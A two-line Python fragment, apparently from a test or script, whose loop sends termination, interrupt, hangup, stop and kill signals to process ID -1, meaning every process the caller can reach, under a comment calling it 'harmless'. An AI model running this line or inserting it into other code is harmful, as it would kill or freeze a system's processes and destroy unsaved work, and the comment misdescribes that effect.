# harmless: kill everyone
for n in (15, 2, 1, 19, 9): go(os.kill, -1, n)